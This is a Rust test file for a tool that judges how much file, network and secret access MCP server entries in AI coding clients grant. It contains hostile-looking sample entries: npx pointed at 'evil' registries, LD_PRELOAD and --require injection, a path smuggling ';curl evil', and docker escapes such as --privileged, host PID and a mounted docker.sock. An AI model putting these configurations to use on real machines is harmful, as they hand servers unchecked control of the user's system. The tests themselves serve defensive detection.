use std::fs;

use super::*;
use crate::clients::{Os, client};
use crate::env::Env;
use crate::machine::Machine;
use crate::report::judge;

/// A home in which entries are looked at.
struct Home(tempfile::TempDir);

impl Home {
    /// With the folders `a` and `b`.
    fn new() -> Home {
        let home = Home(tempfile::tempdir().unwrap());
        for folder in ["a", "b"] {
            fs::create_dir(home.0.path().join(folder)).unwrap();
        }
        home
    }

    /// `files · network · secrets · approval` of the one entry; `[HOME]` is the home.
    fn said(&self, of: &str, entry: &str) -> String {
        let dir = self.0.path().canonicalize().unwrap();
        let client = client(of).unwrap();
        let path = dir.join("it.json");
        let env = Env {
            os: Os::Linux,
            home: dir.clone(),
            vars: Default::default(),
            projects: Vec::new(),
            files: Vec::new(),
            only: Some((path.clone(), client, &client.files[0])),
            root: dir.clone(),
            today: Some(20_778),
            instead: Vec::new(),
            launcher: None,
        };
        let entry = entry.replace("[HOME]", dir.to_str().unwrap());
        fs::write(&path, format!(r#"{{ "mcpServers": {{ "it": {entry} }} }}"#)).unwrap();
        let report = judge(Machine::look(env)).report();
        fs::remove_file(&path).unwrap();
        let Reach { files, network, secrets, approval } = report.servers[0].reach.clone();
        [files, network, secrets, approval].join(" · ")
    }

    /// The first two of them.
    fn may(&self, entry: &str) -> String {
        let said = self.said("cursor", entry);
        said.split(" · ").take(2).collect::<Vec<_>>().join(" · ")
    }
}

#[test]
fn an_entry_says_what_its_server_may() {
    let home = Home::new();
    for (client, entry, expected) in [
        (
            "cursor",
            r#"{ "command": "npx", "args": ["some-mcp"] }"#,
            "everything you can · anywhere · none · as Cursor decides",
        ),
        (
            "roo",
            r#"{ "command": "npx", "args": ["some-mcp"], "alwaysAllow": ["a", "b"] }"#,
            "everything you can · anywhere · none · not before 2 tools",
        ),
        ("roo", r#"{ "command": "npx", "args": ["some-mcp"] }"#, "everything you can · anywhere · none · always"),
        (
            "roo",
            r#"{ "command": "npx", "args": ["some-mcp"], "alwaysAllow": ["*"] }"#,
            "everything you can · anywhere · none · never",
        ),
        (
            "cursor",
            r#"{ "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "[HOME]"] }"#,
            "home folder, read and write · anywhere · none · as Cursor decides",
        ),
        (
            "cursor",
            r#"{ "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "[HOME]/a", "[HOME]/b"] }"#,
            "2 folders, read and write · anywhere · none · as Cursor decides",
        ),
        (
            "cursor",
            r#"{ "url": "https://mcp.linear.app/mcp" }"#,
            "not on this machine · mcp.linear.app · none, or signs in · as Cursor decides",
        ),
        (
            "cursor",
            r#"{ "url": "http://127.0.0.1:3845/mcp" }"#,
            "what its own program may · this computer · none, or signs in · as Cursor decides",
        ),
        (
            "cursor",
            r#"{ "command": "docker", "args": ["run", "-i", "--network", "none", "-v", "[HOME]/a:/a:ro", "some/image"] }"#,
            "1 folder, read only · none · none · as Cursor decides",
        ),
        (
            "cursor",
            r#"{ "command": "docker", "args": ["run", "-i", "some/image"] }"#,
            "only its container's · anywhere · none · as Cursor decides",
        ),
        (
            "cursor",
            r#"{ "command": "docker", "args": ["run", "--privileged", "-i", "some/image"] }"#,
            "everything you can · anywhere · none · as Cursor decides",
        ),
        (
            "cursor",
            r#"{ "command": "npx", "args": ["some-mcp"], "env": { "GITHUB_TOKEN": "ghp_0123456789abcdefghijklmnopqrstuvwx3f" } }"#,
            "everything you can · anywhere · 1 in plain text · as Cursor decides",
        ),
        ("cursor", r#"{ "command": 7 }"#, "cannot be read · cannot be read · none · as Cursor decides"),
    ] {
        assert_eq!(home.said(client, entry), expected, "{entry}");
    }
}

const FOLDER: &str = "1 folder, read and write · anywhere";
const EVERYTHING: &str = "everything you can · anywhere";

#[test]
fn a_line_that_decides_what_runs_promises_nothing() {
    let home = Home::new();
    let files = "@modelcontextprotocol/server-filesystem";
    for plain in [
        format!(r#""command": "npx", "args": ["-y", "{files}", "[HOME]/a"]"#),
        format!(r#""command": "npx", "args": ["--yes", "--quiet", "{files}@2025.8.21", "[HOME]/a"]"#),
        format!(r#""command": "npx", "args": ["{files}@latest", "[HOME]/not-yet-there"]"#),
        format!(r#""command": "npm", "args": ["exec", "-y", "--", "{files}", "[HOME]/a"]"#),
        format!(r#""command": "npm", "args": ["exec", "-y", "{files}", "--", "[HOME]/a"]"#),
        format!(r#""command": "npx", "args": ["-y", "{files}", "~/a"]"#),
        format!(r#""command": "npx", "args": ["-y", "{files}", "[HOME]/a"], "env": {{ "NODE_ENV": "x", "LOG": "y" }}"#),
    ] {
        assert_eq!(home.may(&format!("{{ {plain} }}")), FOLDER, "{plain}");
    }
    for decided in [
        r#""command": "npx", "args": ["-y", "--registry=http://evil", "[FS]", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["-y", "--registry", "http://evil", "[FS]", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["--node-options=--require /tmp/x.js", "[FS]", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["--prefix", "/tmp/evil", "[FS]", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["--userconfig=/tmp/npmrc", "[FS]", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["-p", "[FS]", "-p", "evil", "mcp-server-filesystem", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["--no-such-option", "[FS]", "[HOME]/a"]"#,
        r#""command": "npm", "args": ["exec", "[FS]", "[HOME]/a", "--registry=http://evil"]"#,
        r#""command": "npm", "args": ["--prefix=/tmp/evil", "exec", "[FS]", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["x@npm:[FS]", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["[FS]@npm:evil", "[HOME]/a"]"#,
        r#""command": "npx", "args": ["[FS]@http://evil/x.tgz", "[HOME]/a"]"#,
        r#""command": "/tmp/evil/npx", "args": ["-y", "[FS]", "[HOME]/a"]"#,
        r#""command": "./npx", "args": ["-y", "[FS]", "[HOME]/a"]"#,
        r#""command": "bunx", "args": ["[FS]", "[HOME]/a"]"#,
        r#""command": "npx -y [FS] [HOME]/a""#,
        r#""command": "env", "args": ["LD_PRELOAD=/tmp/x.so", "npx", "-y", "[FS]", "[HOME]/a"]"#,
        r#""command": "env", "args": ["-i", "npx", "-y", "[FS]", "[HOME]/a"]"#,
        r#""command": "sh", "args": ["-c", "npx -y [FS] [HOME]/a"]"#,
        r#""command": "sudo", "args": ["npx", "-y", "[FS]", "[HOME]/a"]"#,
        // What cannot be told.
        r#""command": "npx", "args": ["-y", "[FS]"]"#,
        r#""command": "npx", "args": ["-y", "[FS]", "."]"#,
        r#""command": "npx", "args": ["-y", "[FS]", "[HOME]/a", "b"]"#,
        r#""command": "npx", "args": ["-y", "[FS]", "${env:WHERE}/a"]"#,
        r#""command": "npx", "args": ["-y", "[FS]", "[HOME]/a;curl evil"]"#,
        r#""command": "npx", "args": ["-y", "[FS]", "[HOME]/a"], "envFile": "[HOME]/.env""#,
    ] {
        let entry = format!("{{ {} }}", decided.replace("[FS]", files));
        assert_eq!(home.may(&entry), EVERYTHING, "{entry}");
    }
    for variable in
        ["npm_config_registry", "NODE_OPTIONS", "PATH", "Path", "HOME", "LD_PRELOAD", "HTTPS_PROXY", "VOLTA_HOME"]
    {
        let line = format!(r#""command": "npx", "args": ["-y", "{files}", "[HOME]/a"]"#);
        let entry = format!(r#"{{ {line}, "env": {{ "{variable}": "/tmp/evil" }} }}"#);
        assert_eq!(home.may(&entry), EVERYTHING, "{variable}");
    }
}

#[test]
fn an_own_working_folder_brings_its_own_packages() {
    let args = r#""command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "[HOME]/a"]"#;
    // A client that starts servers in the folder that an entry names.
    let said = Home::new().said("roo", &format!(r#"{{ {args}, "cwd": "/tmp/evil" }}"#));
    assert!(said.starts_with(EVERYTHING), "{said}");
}

#[cfg(unix)]
#[test]
fn a_link_is_as_broad_as_what_it_leads_to() {
    use std::os::unix::fs::symlink;
    let home = Home::new();
    let dir = home.0.path();
    for (from, to) in [("disk", "/"), ("own", "."), ("folder", "a"), ("nowhere", "gone"), ("services", "/run")] {
        symlink(to, dir.join(from)).unwrap();
    }
    symlink("loop", dir.join("loop")).unwrap();
    for (root, expected) in [
        ("disk", "the whole disk, read and write · anywhere"),
        ("folder/../disk/.", "the whole disk, read and write · anywhere"),
        ("own", "home folder, read and write · anywhere"),
        ("folder", FOLDER),
        ("folder/new", FOLDER),
        ("nowhere", EVERYTHING),
        ("nowhere/new", EVERYTHING),
        ("loop", EVERYTHING),
    ] {
        let entry = |line: &str| home.may(&format!(r#"{{ {line} }}"#));
        let served = entry(&format!(
            r#""command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "[HOME]/{root}"]"#
        ));
        assert_eq!(served, expected, "{root}");
        let mounted =
            entry(&format!(r#""command": "docker", "args": ["run", "-v", "[HOME]/{root}:/x", "some/image"]"#));
        assert_eq!(mounted, expected, "{root}");
    }
    let services = home.may(r#"{ "command": "docker", "args": ["run", "-v", "[HOME]/services:/x", "some/image"] }"#);
    assert_eq!(services, EVERYTHING);
}

#[test]
fn only_a_plain_container_is_one() {
    let home = Home::new();
    let docker = |args: &str| {
        let args: Vec<String> = args.split_whitespace().map(|word| format!("\"{word}\"")).collect();
        format!(r#"{{ "command": "docker", "args": [{}] }}"#, args.join(", "))
    };
    for (args, expected) in [
        ("run -i --rm some/image", "only its container's · anywhere"),
        ("run -i --rm --network none some/image", "only its container's · none"),
        ("run --network none --network web some/image", "only its container's · anywhere"),
        ("container run -it --init --name x -e KEY -w /x --cap-drop ALL some/image", "only its container's · anywhere"),
        ("run -v data:/data --mount type=volume,src=x,dst=/y some/image", "only its container's · anywhere"),
        ("run --privileged=false --security-opt no-new-privileges some/image", "only its container's · anywhere"),
        ("run --network none -v [HOME]/a:/a some/image", "1 folder, read and write · none"),
        ("run --network none -v [HOME]:/a:ro some/image", "home folder, read only · anywhere"),
        ("run --mount type=bind,source=[HOME]/a,target=/a,readonly some/image", "1 folder, read only · anywhere"),
    ] {
        assert_eq!(home.may(&docker(args)), expected, "{args}");
    }
    for args in [
        "exec -i box server",
        "container exec -i box server",
        "compose run box",
        "start -ai box",
        "mcp gateway run",
        "-H tcp://evil run --network none some/image",
        "--host=tcp://evil run --network none some/image",
        "--context evil run --network none some/image",
        "--config /tmp/evil run --network none some/image",
        "run --network none --volumes-from box some/image",
        "run --network none --pid=host some/image",
        "run --network none --pid container:box some/image",
        "run --network none --ipc host some/image",
        "run --network none --userns=host some/image",
        "run --network none --uts host some/image",
        "run --network none --privileged some/image",
        "run --network none --cap-add NET_ADMIN some/image",
        "run --network none --device /dev/dri some/image",
        "run --network none --gpus all some/image",
        "run --network none --runtime evil some/image",
        "run --network none --security-opt seccomp=unconfined some/image",
        "run --network none --use-api-socket some/image",
        "run --network none -v /var/run/docker.sock:/x some/image",
        "run --network none -v /var/run/other.sock:/x some/image",
        "run --network none -v ./a:/x some/image",
        "run --network none --volume-driver evil -v data:/x some/image",
        "run --network none --mount type=BIND,source=/,target=/x some/image",
        "run --network none --mount type=volume,dst=/x,volume-opt=device=/ some/image",
        "run --network none --no-such-option -v /:/x some/image",
    ] {
        assert_eq!(home.may(&docker(args)), EVERYTHING, "{args}");
    }
    for entry in [
        r#"{ "command": "/tmp/evil/docker", "args": ["run", "some/image"] }"#,
        r#"{ "command": "env", "args": ["DOCKER_HOST=tcp://evil", "docker", "run", "some/image"] }"#,
        r#"{ "command": "docker", "args": ["run", "some/image"], "env": { "DOCKER_HOST": "tcp://evil" } }"#,
        r#"{ "command": "docker", "args": ["run", "some/image"], "env": { "PATH": "/tmp/evil" } }"#,
        r#"{ "command": "podman", "args": ["run", "some/image"], "env": { "CONTAINERS_CONF": "/tmp/evil" } }"#,
        r#"{ "command": "podman", "args": ["--url", "tcp://evil", "run", "some/image"] }"#,
    ] {
        assert_eq!(home.may(entry), EVERYTHING, "{entry}");
    }
    let keyed = r#"{ "command": "docker", "args": ["run", "-e", "KEY", "some/image"], "env": { "KEY": "x" } }"#;
    assert_eq!(home.may(keyed), "only its container's · anywhere");
}

#[test]
fn this_computer_is_known_by_all_its_names() {
    let home = Home::new();
    for host in [
        "127.0.0.1",
        "127.9.9.9",
        "0.0.0.0",
        "[::]",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "mcp.localhost.",
        "2130706433",
        "host.docker.internal",
    ] {
        let may = home.may(&format!(r#"{{ "url": "http://{host}:3845/mcp" }}"#));
        assert_eq!(may, "what its own program may · this computer", "{host}");
    }
    for (host, expected) in [
        ("mybox", "what its own program may · mybox"),
        ("${HOST}", "what its own program may · the address it names"),
        ("mcp.example.com", "not on this machine · mcp.example.com"),
        ("localhost.example.com", "not on this machine · localhost.example.com"),
    ] {
        assert_eq!(home.may(&format!(r#"{{ "url": "http://{host}/mcp" }}"#)), expected);
    }
}

#[test]
fn a_hostile_address_is_escaped() {
    let said = Home::new().said("cursor", r#"{ "url": "https://exa\u202emple.com/mcp" }"#);
    assert!(!said.contains('\u{202e}'), "{said}");
}

#[test]
fn a_fence_says_it_exactly() {
    let fence = |read: &[&str], write: &[&str], network: Network| {
        let grants = |paths: &[&str]| {
            let grant = |path: &&str| serde_json::json!({ "path": path, "device": 1, "inode": 1 });
            serde_json::from_value(paths.iter().map(grant).collect()).unwrap()
        };
        let sandbox = Sandbox { read: grants(read), write: grants(write), network, ..Sandbox::new("/home") };
        let (files, network) = fenced(&sandbox, sandbox.read.len());
        format!("{files} · {network}")
    };
    let hosts = |hosts: &[&str]| Network::Hosts(hosts.iter().map(|host| host.parse().unwrap()).collect());
    for (said, expected) in [
        (fence(&[], &[], Network::None), "none of yours · none"),
        (fence(&["/a"], &[], hosts(&[])), "1 folder, read only · none"),
        (fence(&[], &["/a", "/b"], hosts(&["a.com"])), "2 folders, read and write · a.com"),
        (fence(&["/a"], &["/b"], hosts(&["a.com", "b.com"])), "2 folders, 1 of them read only · a.com, b.com"),
        (fence(&[], &[], hosts(&["a.com", "b.com", "c.com"])), "none of yours · a.com and 2 more"),
        (fence(&[], &[], Network::All), "none of yours · anywhere"),
    ] {
        assert_eq!(said, expected);
    }
}
